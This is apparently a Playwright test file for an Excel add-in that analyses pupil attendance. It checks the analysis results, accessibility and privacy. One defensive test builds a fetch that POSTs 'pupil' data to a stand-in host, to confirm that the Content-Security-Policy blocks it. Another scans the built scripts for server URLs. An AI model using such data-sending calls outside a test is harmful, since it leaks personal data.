import { mkdirSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { analyseActiveSheetAction } from "../../src/commands/analyseActiveSheet";
import { storedStateFrom } from "../../src/excel/storedState";
import { sampleExportGrid } from "../../src/sample/sampleExport";
import { axeSource, closePaneHarness, collectProblems, dist, officeJsUrl, openPaneHarness, root, routeOffline } from "./harness";

type Value = string | number | boolean;

interface SheetSnapshot {
  name: string;
  visibility: string;
  conditionalFormats: number;
  grid: Value[][];
}

/** What test/browser/officeStub.ts exposes to the test. */
interface AttendanceTest {
  pasteSample(sheetName: string): void;
  associatedActions(): string[];
  runAction(name: string): Promise<number>;
  snapshot(): SheetSnapshot[];
  settings(): Record<string, unknown>;
  runs(): number;
}

interface AxeResult {
  violations: { id: string; impact: string | null; help: string; nodes: { target: unknown[] }[] }[];
  passes: { id: string }[];
}

declare global {
  interface Window {
    __attendanceTest: AttendanceTest;
    axe: { run(context: Document, options: object): Promise<AxeResult> };
  }
}

const sampleSheet = "Sample export";
const resultsDir = join(root, "test-results");

let browser: Browser;
let server: { origin: string; close: () => Promise<void> };
let officeStub: string;

beforeAll(async () => {
  ({ browser, server, officeStub } = await openPaneHarness());
  mkdirSync(resultsDir, { recursive: true });
});

afterAll(() => closePaneHarness({ browser, server }));

interface OpenPage {
  page: Page;
  context: BrowserContext;
  /** Every URL the page asked for, in order. */
  requests: string[];
  /** Script errors and console errors (a CSP violation is one), from collectProblems. */
  problems: string[];
}

/** A page the size of a task pane, with Office.js swapped for the stub and every request recorded. */
async function openPage(path: string, officeTheme?: object): Promise<OpenPage> {
  const context = await browser.newContext({ viewport: { width: 380, height: 900 }, locale: "en-GB" });
  if (officeTheme) await context.addInitScript((theme) => Object.assign(window, { __officeTheme: theme }), officeTheme);
  const requests: string[] = [];
  // Refused, so nothing can leave even if the page tried; the assertions on `requests` report it.
  await routeOffline(context, server.origin, officeStub);
  const page = await context.newPage();
  page.on("request", (request) => requests.push(request.url()));
  const problems = collectProblems(page);
  await page.goto(`${server.origin}/${path}`);
  return { page, context, requests, problems };
}

/** Requests to anywhere but the add-in's own server and the Office.js CDN address. */
function offSite(requests: string[]): string[] {
  return requests.filter((url) => !url.startsWith(`${server.origin}/`) && url !== officeJsUrl);
}

const sheets = (page: Page) => page.evaluate(() => window.__attendanceTest.snapshot());

async function sheet(page: Page, name: string): Promise<SheetSnapshot> {
  const found = (await sheets(page)).find((s) => s.name === name);
  if (!found) throw new Error(`The workbook has no sheet "${name}".`);
  return found;
}

/** The top-left block of a grid, `rows` × `columns`, padded with "" as Excel shows empty cells. */
function block(grid: Value[][], rows: number, columns: number): Value[][] {
  return Array.from({ length: rows }, (_, r) => Array.from({ length: columns }, (_, c) => grid[r]?.[c] ?? ""));
}

/** Waits until the add-in has made another Excel.run and the status line reports the analysis. */
async function waitForAnalysis(page: Page, runsBefore: number): Promise<void> {
  await page.waitForFunction((before) => window.__attendanceTest.runs() > before, runsBefore);
  await page.getByRole("status").filter({ hasText: /^Analysed \d+ pupils on / }).waitFor();
}

async function runAxe(page: Page): Promise<AxeResult> {
  // Evaluated through the DevTools protocol, so the page's CSP (which would refuse an injected script) stays on.
  await page.evaluate(axeSource());
  return page.evaluate(() =>
    window.axe.run(document, {
      runOnly: { type: "tag", values: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"] },
      resultTypes: ["violations", "passes"],
    }),
  );
}

/** axe's serious and critical violations, one readable line each. */
function seriousViolations(result: AxeResult): string[] {
  return result.violations
    .filter((v) => v.impact === "serious" || v.impact === "critical")
    .map((v) => `${v.id} (${v.impact}): ${v.help} at ${v.nodes.map((n) => JSON.stringify(n.target)).join(", ")}`);
}

describe("the task pane, built for production, in Chromium", () => {
  it("analyses the sample, takes a corrected column and re-runs without duplicating anything or changing the data", async () => {
    const { page, context, requests, problems } = await openPage("taskpane.html");
    try {
      const sample = sampleExportGrid();
      const sampleWidth = Math.max(...sample.map((row) => row.length));

      await page.getByRole("button", { name: "Try it with sample data" }).click();
      await waitForAnalysis(page, 0);

      const first = await sheet(page, sampleSheet);
      // The pasted values are untouched; the add-in added clearly headed columns to the right and colour rules.
      expect(block(first.grid, sample.length, sampleWidth)).toEqual(block(sample as Value[][], sample.length, sampleWidth));
      const headerRow = first.grid.findIndex((row) => row.includes("UPN"));
      expect(headerRow).toBeGreaterThanOrEqual(0);
      const added = (first.grid[headerRow] ?? []).slice(sampleWidth).filter((heading) => heading !== "");
      expect(added).toEqual(expect.arrayContaining(["Attendance band"]));
      expect(first.conditionalFormats).toBeGreaterThan(0);
      await expect(page.getByRole("heading", { name: /^Pupils in each band \(\d+ pupils\)$/ }).isVisible()).resolves.toBe(true);

      // Correct a column: the engine found Ethnicity; the user says the sheet has none.
      await page.getByRole("button", { name: "Check columns" }).click();
      const ethnicity = page.getByRole("combobox", { name: "Ethnicity" });
      await ethnicity.waitFor();
      await ethnicity.selectOption({ label: "Not in this sheet" });
      await page.getByText("Your choice").waitFor();
      await expect(ethnicity.inputValue()).resolves.toBe("none");

      const runsBefore = await page.evaluate(() => window.__attendanceTest.runs());
      await page.getByRole("button", { name: "Analyse", exact: true }).click();
      await waitForAnalysis(page, runsBefore);

      const second = await sheet(page, sampleSheet);
      expect(block(second.grid, sample.length, sampleWidth)).toEqual(block(sample as Value[][], sample.length, sampleWidth));
      expect(second.conditionalFormats).toBe(first.conditionalFormats);
      expect(second.grid[headerRow]).toEqual(first.grid[headerRow]);
      expect(second.grid[0]?.length).toBe(first.grid[0]?.length);
      // Nothing duplicated: the sample sheet once, and Analyse's snapshot on the hidden history sheet
      // (docs/rules.md §11), which the sample's own analysis does not make.
      expect((await sheets(page)).map((s) => [s.name, s.visibility])).toEqual([
        ["Sheet1", "Visible"],
        [sampleSheet, "Visible"],
        ["Attendance history", "Hidden"],
      ]);

      // The correction is kept in the workbook for this sheet, so the ribbon button and co-editors use it.
      const saved = storedStateFrom(new Map(Object.entries(await page.evaluate(() => window.__attendanceTest.settings()))));
      expect(saved.state.mappings[sampleSheet]).toEqual({ ethnicity: null });

      // Accessibility of the whole pane, with every section open.
      for (const section of ["2. Ladder and rules", "4. Targeting Support Meeting", "National figures"]) {
        await page.getByRole("button", { name: section, exact: true }).click();
      }
      await page.getByRole("button", { name: "Reset to the shipped figures" }).waitFor();
      const axe = await runAxe(page);
      expect(seriousViolations(axe)).toEqual([]);
      expect(axe.passes.map((p) => p.id)).toContain("color-contrast");

      await page.getByRole("button", { name: "National figures", exact: true }).scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(resultsDir, "taskpane-national-figures.png") });
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.screenshot({ path: join(resultsDir, "taskpane.png") });

      // Privacy: the page asked for its own files and Office.js, nothing else.
      expect(requests).toContain(officeJsUrl);
      expect(offSite(requests)).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("is accessible in Office's dark theme too", async () => {
    const dark = { isDarkTheme: true, bodyBackgroundColor: "#292929", bodyForegroundColor: "#FFFFFF" };
    const { page, context, problems } = await openPage("taskpane.html", dark);
    try {
      await page.getByRole("button", { name: "Try it with sample data" }).click();
      await waitForAnalysis(page, 0);
      const background = await page.evaluate(() => getComputedStyle(document.querySelector("main")?.parentElement ?? document.body).backgroundColor);
      const axe = await runAxe(page);
      expect(seriousViolations(axe)).toEqual([]);
      expect(axe.passes.map((p) => p.id)).toContain("color-contrast");
      await page.screenshot({ path: join(resultsDir, "taskpane-dark.png") });
      expect(background).not.toBe("rgb(255, 255, 255)");
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("enforces its Content-Security-Policy: the page cannot connect to another host", async () => {
    const { page, context, requests } = await openPage("taskpane.html");
    try {
      await page.getByRole("button", { name: "Try it with sample data" }).waitFor();
      const violations = await page.evaluate(
        // A string, so the test itself holds no network call; the policy must refuse it before it leaves.
        `new Promise((resolve) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
          fetch("https://example.org/collect", { method: "POST", body: "pupil" }).catch(() => undefined);
          setTimeout(() => resolve(seen), 500);
        })`,
      );
      expect(violations).toEqual(["connect-src"]);
      expect(offSite(requests)).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("the ribbon's Analyse sheet command analyses the active sheet and tells Excel it has finished", async () => {
    // The pane's page is also the function file (one shared runtime), so the command runs from it.
    const { page, context, requests, problems } = await openPage("taskpane.html");
    try {
      await page.waitForFunction((name) => window.__attendanceTest.associatedActions().includes(name), analyseActiveSheetAction);
      await page.evaluate(() => window.__attendanceTest.pasteSample("Export"));
      const pasted = await sheet(page, "Export");

      const completed = await page.evaluate((name) => window.__attendanceTest.runAction(name), analyseActiveSheetAction);
      expect(completed).toBe(1);

      const after = await sheet(page, "Export");
      const width = pasted.grid[0]?.length ?? 0;
      expect(block(after.grid, pasted.grid.length, width)).toEqual(pasted.grid);
      expect(after.conditionalFormats).toBeGreaterThan(0);
      expect(after.grid.some((row) => row.includes("Attendance band"))).toBe(true);
      expect(offSite(requests)).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("ships scripts that name no server to talk to", () => {
    // Every absolute URL in the built JavaScript: XML namespaces and libraries' links to their documentation
    // (in error messages) are expected; an endpoint would mean code that could send data somewhere.
    const harmless = [/^http:\/\/www\.w3\.org\//, /^https:\/\/react\.dev\/errors\//, /^https:\/\/github\.com\/date-fns\/date-fns\/blob\//];
    const scripts = readdirSync(dist).filter((file) => file.endsWith(".js"));
    expect(scripts.length).toBeGreaterThanOrEqual(2);
    const urls = scripts.flatMap((file) => readFileSync(join(dist, file), "utf8").match(/\b(?:https?|wss?):\/\/[^\s"'`)\\]+/g) ?? []);
    expect([...new Set(urls)].filter((url) => !harmless.some((pattern) => pattern.test(url)))).toEqual([]);
  });
});
